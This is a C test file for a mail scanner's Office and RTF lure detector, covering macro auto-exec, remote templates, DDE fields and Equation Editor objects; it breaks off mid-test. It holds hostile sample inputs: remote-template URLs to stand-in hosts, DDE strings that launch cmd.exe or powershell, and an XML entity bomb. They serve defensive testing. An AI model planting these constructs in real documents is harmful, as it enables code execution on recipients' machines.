/*
 * check_office.c - Office macros, remote templates and Equation Editor objects
 * (scanners/lure/office.c, rtfobj.c, vba.c)
 *
 * Four kinds of test. The Office fixture mails of tests/fixtures/lures_office.py
 * and lures_equation.py (built into BUILD_DIR/fixtures/lures by make unit)
 * scanned whole, as a mail admin reads them: which finding, at which part,
 * saying what; the business macro documents only tagged; the look-alikes
 * clean. Reports made here around one relationship part or one RTF
 * document, for each rule of "a target on another machine" and each way
 * Word reads an \objdata. The VBA reader (vba.h) on a fixture and on
 * hostile mutations of it: bounded, never a crash. And libxml2 given what
 * an attacker would: a DTD with nested entities, a flood of relationships.
 *
 * The fixture scans need a libclamav engine for the container walk: loaded
 * once per test case from moat's bundled signatures, as check_lure.c does.
 */
#include <malloc.h>
#include <string.h>
#include <time.h>

#include <libxml/xmlmemory.h>

#include "checks.h"
#include "helpers.h"
#include "moat/bytes.h"
#include "moat/lure.h"
#include "moat/vba.h"

#define LURES_DIR	BUILD_DIR "/fixtures/lures"	/* tests/fixtures/build.sh, run by make unit */

static struct moat_conf *conf;	/* the defaults, [av] on moat's own signatures */

static void
office_setup(void)
{
	conf = t_av_conf();
}

static void
office_teardown(void)
{
	t_av_release(&conf);
}

/* scan_fixture - the fixture mail NAME scanned under CONF; caller report_free()s */
static struct moat_report *
scan_fixture(const char *name)
{
	g_autofree char *path = g_build_filename(LURES_DIR, name, NULL);

	ck_assert_msg(g_file_test(path, G_FILE_TEST_IS_REGULAR),
	    "%s missing: run tests/fixtures/build.sh %s/fixtures", path, BUILD_DIR);
	return t_scan_file(path, conf);
}

/* The fixtures: what the quarantine view shows ------------------------------------ */

static const struct {
	const char *mail, *id, *at;	/* finding ID on a part whose path holds AT */
	const char *texts[3];		/* its evidence holds each (NULL: no more) */
	const char *absent;		/* an id the mail must not show, or NULL */
} office_evidence[] = {
	{ "mail-office-macro.doc.eml", "lure.macro_autoexec", "Invoice_8812.doc",
	    { "AutoOpen (module ThisDocument)", "powershell", "Shell" }, NULL },
	{ "mail-office-macro.doc.eml", "lure.office_macro", "Invoice_8812.doc",
	    { "storage Macros/VBA", "1 module (ThisDocument)", NULL }, "lure.macro_renamed" },
	{ "mail-office-macro-dl.doc.eml", "lure.macro_autoexec", "Remittance.doc",
	    { "Document_Open (module Module1)", "URLDownloadToFileA", "WScript.Shell" }, NULL },
	{ "mail-office-macro.xls.eml", "lure.office_macro", "Statement_Q3.xls",
	    { "storage _VBA_PROJECT_CUR/VBA", "ThisWorkbook", NULL }, NULL },
	{ "mail-office-macro.xls.eml", "lure.macro_autoexec", "Statement_Q3.xls",
	    { "Workbook_Open", "MSXML2.XMLHTTP", "cmd.exe" }, NULL },
	{ "mail-office-macro.docm.eml", "lure.office_macro", "Invoice_8813.docm",
	    { "in word/vbaProject.bin (storage VBA)", "ThisDocument", NULL }, "lure.macro_renamed" },
	{ "mail-office-macro.xlsm.eml", "lure.macro_autoexec", "Payroll.xlsm",
	    { "in xl/vbaProject.bin: Workbook_Open", "MSXML2.XMLHTTP", NULL }, NULL },
	{ "mail-office-obfuscated.xlsm.eml", "lure.macro_autoexec", "Data.xlsm",
	    { "auto_open", "CreateObject", "Chr() codes" }, NULL },
	{ "mail-office-macro.pptm.eml", "lure.macro_autoexec", "Slides.pptm",
	    { "Auto_Open", "StrReverse", "CallByName" }, NULL },
	{ "mail-office-macro.msg.eml", "lure.office_macro", "Fwd Invoice 8815.msg",
	    { "__attach_version1.0_#00000000/__substg1.0_37010102", "Macros/VBA", NULL }, NULL },
	{ "mail-office-renamed.docx.eml", "lure.macro_renamed", "Contract.docx",
	    { "macro-enabled OOXML", "named .docx", "cannot hold macros" }, "lure.macro_autoexec" },
	{ "mail-office-renamed.xlsx.eml", "lure.macro_renamed", "Figures.xlsx",
	    { "named .xlsx", NULL, NULL }, "lure.macro_autoexec" },
	{ "mail-office-renamed.doc.eml", "lure.macro_renamed", "Order.doc",
	    { "macro-enabled OOXML", "named .doc", "opens it by its content" }, NULL },
	{ "mail-office-ole2-renamed.docx.eml", "lure.macro_renamed", "Minutes.docx",
	    { "compound (OLE2)", "named .docx", NULL }, NULL },
	{ "mail-office-docm.zip.eml", "lure.macro_renamed", "Invoice_8816.docx",
	    { "named .docx", NULL, NULL }, NULL },
	{ "mail-template-http.docx.eml", "lure.remote_template", "Invoice_8814.docx",
	    { "attachedTemplate in word/_rels/settings.xml.rels",
	    "http://198.51.100.23/templates/invoice.dotm", NULL },
	    "lure.office_macro" },
	{ "mail-template-https.docx.eml", "lure.remote_template", "Report.docx",
	    { "HTTPS://cdn.example-docs.com/t/report.dotm?id=4412", NULL, NULL }, NULL },
	{ "mail-template-unc.docx.eml", "lure.remote_template", "CV.docx",
	    { "\\\\198.51.100.23\\share\\template.dotm", NULL, NULL }, NULL },
	{ "mail-template-webdav.docx.eml", "lure.remote_template", "Agenda.docx",
	    { "file://docs.example-cdn.net@SSL/", NULL, NULL }, NULL },
	{ "mail-template-slashes.docx.eml", "lure.remote_template", "Notes.docx",
	    { "//198.51.100.23/share/t.dotx", NULL, NULL }, NULL },
	{ "mail-template-oleobject.docx.eml", "lure.remote_template", "Offer.docx",
	    { "oleObject in word/_rels/document.xml.rels", "http://198.51.100.23/page.html!", NULL },
	    NULL },
	{ "mail-template-frame.docx.eml", "lure.remote_template", "Terms.docx",
	    { "frame in word/_rels/webSettings.xml.rels", "frame.docx", NULL }, NULL },
	{ "mail-template-rtf.doc.eml", "lure.remote_template", "Letter.doc",
	    { "RTF template", "http://198.51.100.23/t.dotm", NULL }, NULL },
	{ "mail-template-unc.rtf.eml", "lure.remote_template", "Letter.rtf",
	    { "\\\\198.51.100.23\\share\\t.dotm", NULL, NULL }, NULL },
	{ "mail-template-escaped.rtf.eml", "lure.remote_template", "Brief.rtf",
	    { "http://198.51.100.23/t.dotm", NULL, NULL }, NULL },
	{ "mail-office-gotfocus.doc.eml", "lure.macro_autoexec", "Invoice_7713.doc",
	    { "InkEdit1_GotFocus (module ThisDocument)", "Shell", NULL }, NULL },
	{ "mail-office-clsid.doc.eml", "lure.macro_autoexec", "Invoice_7714.doc",
	    { "Document_Open", "72C24DD5", "msiexec" }, NULL },
	{ "mail-office-dispatch.xlsm.eml", "lure.macro_autoexec", "Q3_Figures.xlsm",
	    { "Auto_Open", "CallByName", NULL }, NULL },
	{ "mail-office-fetch-save.xlsm.eml", "lure.macro_autoexec", "Update.xlsm",
	    { "Workbook_WindowActivate", "MSXML2.XMLHTTP", "ADODB.Stream" }, NULL },
	{ "mail-dde-split.docx.eml", "lure.dde_field", "Statement_1104.docx",
	    { "field in word/document.xml runs a program on opening: DDEAUTO", "cmd.exe \"/k powershell",
	    NULL }, NULL },
	{ "mail-dde-quote.docx.eml", "lure.dde_field", "Statement_1105.docx", { "QUOTE 68 68 69", NULL,
	    NULL }, NULL },
	{ "mail-dde-simple.docx.eml", "lure.dde_field", "Statement_1106.docx", { "DDE c:", "mshta",
	    NULL }, NULL },
	{ "mail-dde-formula.xlsx.eml", "lure.dde_field", "Totals_Q4.xlsx",
	    { "DDE formula in xl/worksheets/sheet1.xml", "cmd|' /C powershell", NULL }, NULL },
	{ "mail-dde.csv.eml", "lure.dde_field", "Statement_1107.csv", { "CSV line", "MSEXCEL|", NULL },
	    NULL },
	{ "mail-xlm-autoopen.xlsm.eml", "lure.macro_autoexec", "Payment_Details.xlsm",
	    { "in xl/macrosheets/sheet2.xml: Auto_Open runs", "call EXEC", NULL }, NULL },
	{ "mail-xlm-autoopen.xlsm.eml", "lure.office_macro", "Payment_Details.xlsm",
	    { "Excel 4.0 macro sheet xl/macrosheets/sheet2.xml, run by the name Auto_Open", NULL, NULL },
	    NULL },
	{ "mail-equation-classic.rtf.eml", "lure.equation_editor", "Order_4471.rtf",
	    { "CVE-2017-11882", "\\objdata 1: class \"Equation.3\"", "\\objupdate opens it" }, NULL },
	{ "mail-equation-renamed.doc.eml", "lure.equation_editor", "Order_4472.doc",
	    { "class \"eQuAtIoN.3\"", NULL, NULL }, NULL },
	{ "mail-equation-clsid.rtf.eml", "lure.equation_editor", "Order_4473.rtf",
	    { "CLSID at the root storage", "under class \"Word.Document.8\"", NULL }, NULL },
	{ "mail-equation-bin.rtf.eml", "lure.equation_editor", "Order_4474.rtf",
	    { "class \"Equation.3\"", NULL, NULL }, NULL },
	{ "mail-equation-pool.doc.eml", "lure.equation_editor", "Order_4475.doc",
	    { "with its CLSID at ObjectPool/_1589462731", NULL, NULL }, NULL },
	{ "mail-equation-embedded.docx.eml", "lure.equation_editor", "Order_4476.docx",
	    { "in word/embeddings/oleObject1.bin, with its CLSID at the root storage", NULL, NULL },
	    NULL },
	{ "mail-equation-in.zip.eml", "lure.equation_editor", "Order_4477.doc",
	    { "class \"Equation.3\"", NULL, NULL }, NULL },
};

/* Each lure: its finding at its part with its evidence, and held. */
START_TEST(test_office_evidence)
{
	struct moat_report *rep = scan_fixture(office_evidence[_i].mail);
	const struct moat_finding *f = t_finding_at(rep, office_evidence[_i].id, office_evidence[_i].at);
	g_autofree char *got = t_ids_of(rep);

	ck_assert_msg(f != NULL, "%s: no %s at '%s'; found:%s", office_evidence[_i].mail,
	    office_evidence[_i].id, office_evidence[_i].at, got);
	for (int k = 0; k < 3 && office_evidence[_i].texts[k] != NULL; k++)
		ck_assert_msg(strstr(f->evidence, office_evidence[_i].texts[k]) != NULL,
		    "%s: no \"%s\" in: %s", office_evidence[_i].mail, office_evidence[_i].texts[k],
		    f->evidence);
	if (office_evidence[_i].absent != NULL)
		ck_assert_msg(report_has_finding(rep, office_evidence[_i].absent) == NULL, "%s: %s too:%s",
		    office_evidence[_i].mail, office_evidence[_i].absent, got);
	ck_assert_msg(t_held(rep), "%s: %s (score %d):%s", office_evidence[_i].mail,
	    report_action_name(rep->verdict.action), rep->verdict.score, got);
	report_free(rep);
}
END_TEST

/* Macro documents as businesses send them: lure.office_macro only, tagged, not held. */
static const char *const office_tagged[] = {
	"mail-office-business.docm.eml", "mail-office-business.xlsm.eml",
	"mail-office-business.doc.eml", "mail-office-business.xls.eml",
	"mail-office-business-rates.xlsm.eml", "mail-xlm-quiet.xlsm.eml",
};

START_TEST(test_office_tagged)
{
	struct moat_report *rep = scan_fixture(office_tagged[_i]);
	g_autofree char *got = t_ids_of(rep);

	t_finding(rep, "lure.office_macro");
	for (guint i = 0; i < rep->findings->len; i++) {
		const struct moat_finding *f = rep->findings->pdata[i];

		ck_assert_msg(strcmp(f->id, "lure.office_macro") == 0 || !g_str_has_prefix(f->id, "lure."),
		    "%s: %s: %s", office_tagged[_i], f->id, f->evidence);
	}
	ck_assert_msg(rep->verdict.action == MOAT_TAG, "%s: %s (score %d), want tag:%s",
	    office_tagged[_i], report_action_name(rep->verdict.action), rep->verdict.score, got);
	report_free(rep);
}
END_TEST

/* Look-alikes: no lure.* finding, not held. */
static const char *const office_benign[] = {
	"mail-office-plain.docx.eml", "mail-office-hyperlinks.docx.eml", "mail-office-normal.docx.eml",
	"mail-office-local-template.docx.eml", "mail-office-fileserver.docx.eml",
	"mail-office-plain.doc.eml", "mail-office-plain.xls.eml", "mail-office-plain.xlsx.eml",
	"mail-office-extlink.xlsx.eml", "mail-office-plain.rtf.eml", "mail-office-normal.rtf.eml",
};

START_TEST(test_office_benign)
{
	struct moat_report *rep = scan_fixture(office_benign[_i]);

	for (guint i = 0; i < rep->findings->len; i++) {
		const struct moat_finding *f = rep->findings->pdata[i];

		ck_assert_msg(!g_str_has_prefix(f->id, "lure."), "%s: %s at %s: %s", office_benign[_i],
		    f->id, f->path_display, f->evidence);
	}
	ck_assert_msg(!t_held(rep), "%s: held (score %d)", office_benign[_i], rep->verdict.score);
	report_free(rep);
}
END_TEST

/*
 * A docm whose vbaProject.bin was not kept ([limits] max_decoded_bytes):
 * not read, still a macro document, and one renamed still says so
 */
START_TEST(test_office_unkept)
{
	g_autoptr(GString) text = g_string_new(NULL);
	struct moat_conf *small;
	struct moat_report *rep;
	const struct moat_finding *f;

	g_string_printf(text, "[av]\nsignature_dirs = %s/../conf/signatures\n[milter]\nspool_dir = %s\n"
	    "[limits]\nmax_decoded_bytes = 4096\n", SAMPLES_DIR, g_get_tmp_dir());
	small = t_conf_load(text->str);
	rep = t_scan_file(LURES_DIR "/mail-office-renamed.docx.eml", small);
	f = t_finding_at(rep, "lure.office_macro", "Contract.docx");
	ck_assert_msg(f != NULL && strstr(f->evidence, "word/vbaProject.bin") != NULL &&
	    strstr(f->evidence, "not kept") != NULL, "%s",
	    f != NULL ? f->evidence : "no lure.office_macro at Contract.docx");
	t_finding(rep, "lure.macro_renamed");
	report_free(rep);
	conf_free(small);
}
END_TEST

/* Reports made here: one relationship part, one RTF document ----------------------- */

/* package - a report of a DOCX-like zip holding member NAME with TEXT; caller report_free()s */
static struct moat_report *
package(const char *name, const char *text, gsize len)
{
	struct moat_report *rep = report_new();
	g_autoptr(GPtrArray) path = g_ptr_array_new();
	struct moat_part *p, *m;

	g_ptr_array_add(path, (char *)"Letter.docx");
	p = report_part_new(rep, path);
	p->filename = g_strdup("Letter.docx");
	p->sniffed = "zip";
	p->content = g_bytes_new_static("PK\003\004", 4);
	m = report_member_new(rep, p, "[Content_Types].xml");
	m->content = g_bytes_new_static("<Types/>", 8);
	m = report_member_new(rep, p, name);
	m->sniffed = "xml";
	m->content = g_bytes_new(text, len);
	return rep;
}

/* one_doc_len - a report of one attachment NAME holding the LEN bytes at DATA */
static struct moat_report *
one_doc_len(const char *name, const void *data, gsize len)
{
	struct moat_report *rep = report_new();
	g_autoptr(GPtrArray) path = g_ptr_array_new();
	struct moat_part *p;

	g_ptr_array_add(path, (char *)name);
	p = report_part_new(rep, path);
	p->filename = g_strdup(name);
	p->content = g_bytes_new(data, len);
	return rep;
}

/* one_doc - a report of one attachment NAME holding TEXT */
static struct moat_report *
one_doc(const char *name, const char *text)
{
	return one_doc_len(name, text, strlen(text));
}

#define REL_T	"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define RELS(rel) "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships " \
	"xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" rel "</Relationships>"

static const struct {
	const char *type, *target, *mode;	/* a Relationship's attributes (mode NULL: none) */
	gboolean remote;			/* lure.remote_template wanted */
} office_targets[] = {
	{ REL_T "attachedTemplate", "http://203.0.113.9/t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "https://templates.example.com/a.dotx", "External", TRUE },
	{ REL_T "attachedTemplate", "HtTpS://x.example/a", "external", TRUE },
	{ REL_T "attachedTemplate", "ftp://203.0.113.9/t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "\\\\203.0.113.9\\s\\t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "\\\\files.example.com\\s\\t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "\\\\evil@SSL\\DavWWWRoot\\t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "//203.0.113.9/s/t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "file://files.example.com/s/t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "file:///\\\\203.0.113.9\\s\\t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "file:////files.example.com/s/t.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "  http://203.0.113.9/t.dotm", "External", TRUE },
	{ "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
	    "http://203.0.113.9/t.dotm", "External", TRUE },
	{ REL_T "oleObject", "mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html",
	    "External", TRUE },
	{ REL_T "subDocument", "http://203.0.113.9/sub.docx", "External", TRUE },
	{ REL_T "frame", "https://203.0.113.9/f.docx", "External", TRUE },
	/* local, internal or not fetched: clean */
	{ REL_T "attachedTemplate", "file:///C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\"
	    "Normal.dotm", "External", FALSE },
	{ REL_T "attachedTemplate", "file:///C:/Templates/Letter.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "file://localhost/C:/Templates/Letter.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "file:/C:/Templates/Letter.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "C:\\Templates\\Letter.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "Letter.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "\\\\fileserver\\Templates\\Memo.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "file:///\\\\fileserver\\Templates\\Memo.dotx", "External", FALSE },
	/* names that resolve inside a company only: out of an outside sender's reach */
	{ REL_T "attachedTemplate", "file:///\\\\fs01.firma.local\\Vorlagen\\Brief.dotx", "External",
	    FALSE },
	{ REL_T "attachedTemplate", "\\\\dc1.ad.example.corp\\t\\Memo.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "\\\\nas.home.arpa\\t\\a.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "\\\\files.local.example.com\\t\\a.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "\\\\fs01.local@SSL\\t\\a.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "http://fs01.firma.local/t/a.dotm", "External", TRUE },
	{ REL_T "attachedTemplate", "\\\\?\\C:\\Templates\\Memo.dotx", "External", FALSE },
	{ REL_T "attachedTemplate", "http://203.0.113.9/t.dotm", NULL, FALSE },
	{ REL_T "attachedTemplate", "http://203.0.113.9/t.dotm", "Internal", FALSE },
	{ REL_T "hyperlink", "http://203.0.113.9/setup.exe", "External", FALSE },
	{ REL_T "image", "https://www.example.org/logo.png", "External", FALSE },
	{ REL_T "externalLinkPath", "file:///\\\\files.example.com\\fin\\rates.xlsx", "External", FALSE },
};

START_TEST(test_office_targets)
{
	g_autofree char *mode = office_targets[_i].mode != NULL ?
	    g_strdup_printf(" TargetMode=\"%s\"", office_targets[_i].mode) : g_strdup("");
	g_autofree char *rels = g_strdup_printf(RELS("<Relationship Id=\"rId1\" Type=\"%s\" "
	    "Target=\"%s\"%s/>"), office_targets[_i].type, office_targets[_i].target, mode);
	struct moat_report *rep = package("word/_rels/settings.xml.rels", rels, strlen(rels));
	const struct moat_finding *f;

	lure_office_check(rep, conf);
	f = report_has_finding(rep, "lure.remote_template");
	if (office_targets[_i].remote) {
		ck_assert_msg(f != NULL, "%s: not remote", office_targets[_i].target);
		ck_assert_msg(strstr(f->evidence, "in word/_rels/settings.xml.rels loaded from") != NULL &&
		    strcmp(f->path_display, "Letter.docx") == 0, "%s at %s", f->evidence,
		    f->path_display);
	} else {
		ck_assert_msg(f == NULL, "%s %s: %s", office_targets[_i].type, office_targets[_i].target,
		    f != NULL ? f->evidence : "");
	}
	report_free(rep);
}
END_TEST

static const struct {
	const char *rtf;
	gboolean remote;
} office_rtfs[] = {
	{ "{\\rtf1{\\*\\template http://203.0.113.9/t.dotm}\\pard Hi\\par}", TRUE },
	{ "{\\rtf1{\\*\\template  \\\\\\\\203.0.113.9\\\\s\\\\t.dotm}\\pard Hi\\par}", TRUE },
	{ "{\\rtf1{\\*\\template h\\'74tp://203.0.113.9/\r\nt.dotm}}", TRUE },
	/* \uN characters, each with its fallback byte: "http" written as U+0068 U+0074 ... */
	{ "{\\rtf1{\\*\\template \\u104?\\u116?\\u116 ?p://203.0.113.9/t.dotm}}", TRUE },
	{ "{\\rtf1{\\*\\template \\u104\\'3f\\u116?tp://203.0.113.9/t.dotm}}", TRUE },
	{ "{\\rtf1{\\*\\template \\u-3913?C:\\\\Users\\\\Normal.dotm}}", FALSE },
	{ "{\\rtf1{\\*\\template {\\field}https://x.example/t.dotm}}", TRUE },
	{ "{\\rtxa{\\*\\template http://203.0.113.9/t.dotm}}", TRUE },	/* Word reads "{\rt" as RTF */
	{ "{\\rtf1{\\*\\template C:\\\\Users\\\\bob\\\\Normal.dotm}\\pard Hi\\par}", FALSE },
	{ "{\\rtf1{\\*\\template \\\\\\\\fileserver\\\\Templates\\\\Memo.dotx}}", FALSE },
	{ "{\\rtf1\\pard the \\\\template http://203.0.113.9/t.dotm word\\par}", FALSE },
	{ "{\\rtf1{\\*\\templatex http://203.0.113.9/t.dotm}}", FALSE },
	{ "{\\rtf1\\pard see http://203.0.113.9/t.dotm\\par}", FALSE },
	{ "{\\rtf1{\\*\\template http://203.0.113.9/t.dotm", TRUE },	/* cut short */
	{ "{\\rtf1{\\*\\template", FALSE },
	{ "Dear Bob, {\\*\\template http://203.0.113.9/t.dotm}", FALSE },	/* not RTF */
};

START_TEST(test_office_rtf)
{
	struct moat_report *rep = one_doc("Letter.doc", office_rtfs[_i].rtf);
	const struct moat_finding *f;

	lure_office_check(rep, conf);
	f = report_has_finding(rep, "lure.remote_template");
	ck_assert_msg((f != NULL) == office_rtfs[_i].remote, "%s: %s", office_rtfs[_i].rtf,
	    f != NULL ? f->evidence : "no finding");
	report_free(rep);
}
END_TEST

/* libxml2 given a DTD of nested entities, a flood, a cut part: bounded, quick, no crash. */
START_TEST(test_office_xml_hostile)
{
	static const char laughs[] = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n"
	    "<!ENTITY a \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\">\n"
	    "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n"
	    "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\n"
	    "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\n"
	    "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\n"
	    "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\n"
	    "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\n"
	    "]>\n<Relationships><Relationship Id=\"r\" Type=\"" REL_T "attachedTemplate\" "
	    "Target=\"http://203.0.113.9/&g;\" TargetMode=\"External\"/></Relationships>";
	static const char rel[] = "<Relationship Id=\"r\" Type=\"" REL_T "hyperlink\" "
	    "Target=\"https://www.example.org/\" TargetMode=\"External\"/>";
	static const char bad[] = "<Relationship Id=\"t\" Type=\"" REL_T "attachedTemplate\" "
	    "Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/>";
	GString *flood = g_string_new("<Relationships>");
	struct moat_report *rep;
	gint64 t0 = g_get_monotonic_time();

	rep = package("word/_rels/settings.xml.rels", laughs, sizeof(laughs) - 1);
	lure_office_check(rep, conf);
	ck_assert_ptr_null(report_has_finding(rep, "lure.remote_template"));	/* a DTD: not OPC */
	report_free(rep);

	/* 150,000 hyperlinks, then the template: past OFFICE_XML_ITEMS, not looked at */
	for (int i = 0; i < 150000; i++)
		g_string_append(flood, rel);
	g_string_append(flood, bad);
	g_string_append(flood, "</Relationships>");
	rep = package("word/_rels/document.xml.rels", flood->str, flood->len);
	lure_office_check(rep, conf);
	report_free(rep);

	/* the template first, then a part cut in the middle of a tag: recovered, found */
	g_string_assign(flood, "<Relationships>");
	g_string_append(flood, bad);
	for (int i = 0; i < 1000; i++)
		g_string_append(flood, rel);
	rep = package("word/_rels/settings.xml.rels", flood->str, flood->len - 20);
	lure_office_check(rep, conf);
	t_finding(rep, "lure.remote_template");
	report_free(rep);

	/* not XML at all */
	rep = package("word/_rels/settings.xml.rels", "\xff\xfe<\0R\0", 6);
	lure_office_check(rep, conf);
	ck_assert_uint_eq(rep->findings->len, 0);
	report_free(rep);
	g_string_free(flood, TRUE);
	ck_assert_msg(g_get_monotonic_time() - t0 < 20 * G_USEC_PER_SEC, "%.1f s",
	    (double)(g_get_monotonic_time() - t0) / G_USEC_PER_SEC);
}
END_TEST

/*
 * What libxml2 allocates while office.c reads a part, counted through
 * xmlMemSetup(): live bytes now and at most since the count was reset.
 */
static gssize xml_live, xml_peak;

static void
xml_count(gssize n)
{
	xml_live += n;
	xml_peak = MAX(xml_peak, xml_live);
}

static void *
xml_malloc(size_t n)
{
	void *p = malloc(n);

	if (p != NULL)
		xml_count((gssize)malloc_usable_size(p));
	return p;
}

static void *
xml_realloc(void *p, size_t n)
{
	gssize old = p != NULL ? (gssize)malloc_usable_size(p) : 0;
	void *q = realloc(p, n);

	if (q != NULL)
		xml_count((gssize)malloc_usable_size(q) - old);
	return q;
}

static void
xml_free(void *p)
{
	if (p != NULL)
		xml_count(-(gssize)malloc_usable_size(p));
	free(p);
}

static char *
xml_strdup(const char *s)
{
	char *d = xml_malloc(strlen(s) + 1);

	if (d != NULL)
		strcpy(d, s);
	return d;
}

/*
 * A 4 MB relationship part of empty elements: libxml2's tree takes about
 * 35 bytes per byte of markup, so the part is parsed only as far as keeps
 * the tree well inside the 256 MB a message may use (SECURITY.md), and
 * what comes first is still read.
 */
START_TEST(test_office_xml_memory)
{
	static const char bad[] = "<Relationship Id=\"t\" Type=\"" REL_T "attachedTemplate\" "
	    "Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/>";
	GString *rels = g_string_new("<Relationships>");
	xmlFreeFunc f;
	xmlMallocFunc m;
	xmlReallocFunc r;
	xmlStrdupFunc d;
	struct moat_report *rep;

	g_string_append(rels, bad);
	while (rels->len < (4u << 20))
		g_string_append(rels, "<a/><a/><a/><a/>");
	g_string_append(rels, "</Relationships>");
	rep = package("word/_rels/settings.xml.rels", rels->str, rels->len);
	g_string_free(rels, TRUE);
	xmlMemGet(&f, &m, &r, &d);
	xmlMemSetup(xml_free, xml_malloc, xml_realloc, xml_strdup);
	xml_live = xml_peak = 0;
	lure_office_check(rep, conf);
	xmlMemSetup(f, m, r, d);
	t_finding(rep, "lure.remote_template");
	ck_assert_msg(xml_peak < (64 << 20), "libxml2 held %.0f MB for a 4 MB part",
	    (double)xml_peak / (1 << 20));
	report_free(rep);
}
END_TEST

/*
 * 64 unclosed {\*\template destinations, then 64 KB or 4 MB of control
 * words: each destination is read only so far, so the 4 MB document costs
 * about what the 64 KB one does (each read to the end made it 64 passes
 * over the document: 2.4 s for a 16 MB member).
 */
START_TEST(test_office_rtf_long)
{
	gint64 us[2];

	for (int k = 0; k < 2; k++) {
		GString *rtf = g_string_new("{\\rtf1");
		struct moat_report *rep;
		gint64 t0;

		for (int i = 0; i < 64; i++)
			g_string_append(rtf, "{\\*\\template ");
		while (rtf->len < (k == 0 ? 64u << 10 : 4u << 20))
			g_string_append(rtf, "\\ab\\cd\\ef\\gh");
		rep = one_doc("Letter.rtf", rtf->str);
		g_string_free(rtf, TRUE);
		t0 = t_thread_us();
		lure_office_check(rep, conf);
		us[k] = t_thread_us() - t0;
		ck_assert_ptr_null(report_has_finding(rep, "lure.remote_template"));
		report_free(rep);
	}
	ck_assert_msg(us[1] < 8 * us[0] + 20000, "4 MB: %" G_GINT64_FORMAT " us, 64 KB: %"
	    G_GINT64_FORMAT " us", us[1], us[0]);
}
END_TEST

/*
 * A zip of many relationship parts that each fetch a template: the owner of
 * each finding is looked up once per zip, not once per member (it was a
 * pass over the zip's whole member list for each: 1.6 s for 10,000).
 * Eight times the members must cost about eight times the work.
 */
START_TEST(test_office_many_rels)
{
	static const char rel[] = RELS("<Relationship Id=\"r1\" Type=\"" REL_T "attachedTemplate\" "
	    "Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/>");
	static const guint n[2] = { 1000, 8000 };
	gint64 us[2];

	for (int k = 0; k < 2; k++) {
		struct moat_report *rep = report_new();
		g_autoptr(GPtrArray) path = g_ptr_array_new();
		struct moat_part *p;
		gint64 t0;

		g_ptr_array_add(path, (char *)"Letters.zip");
		p = report_part_new(rep, path);
		p->filename = g_strdup("Letters.zip");
		p->sniffed = "zip";
		p->content = g_bytes_new_static("PK\003\004", 4);
		for (guint i = 0; i < n[k]; i++) {
			g_autofree char *name = g_strdup_printf("word/_rels/d%05u.xml.rels", i);
			struct moat_part *m = report_member_new(rep, p, name);

			m->sniffed = "xml";
			m->content = g_bytes_new_static(rel, sizeof(rel) - 1);
		}
		t0 = t_thread_us();
		lure_office_check(rep, conf);
		us[k] = t_thread_us() - t0;
		t_finding(rep, "lure.remote_template");
		report_free(rep);
	}
	ck_assert_msg(us[1] < 16 * us[0] + 20000, "8,000 members: %" G_GINT64_FORMAT " us, 1,000: %"
	    G_GINT64_FORMAT " us", us[1], us[0]);
}
END_TEST

/* RTF fields: a DDE instruction in \fldinst, nested groups and all; not other fields or text */
START_TEST(test_office_rtf_dde)
{
	static const struct {
		const char *rtf;
		gboolean dde;
	} cases[] = {
		{ "{\\rtf1{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
		    "\"/k calc\"}}{\\fldrslt x}}}", TRUE },
		{ "{\\rt{\\field{\\*\\fldinst  dde \"C:\\\\Programs\\\\cmd.exe\" \"/c x\"}{\\fldrslt }}}", TRUE },
		{ "{\\rtf1{\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79 32 99}{\\fldrslt x}}}", TRUE },
		{ "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://www.example.org/dde\"}{\\fldrslt x}}}",
		    FALSE },
		{ "{\\rtf1{\\field{\\*\\fldinst QUOTE \"DDEAUTO is old\"}{\\fldrslt x}}}", FALSE },
		{ "{\\rtf1\\pard the \\\\fldinst DDEAUTO word\\par}", FALSE },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
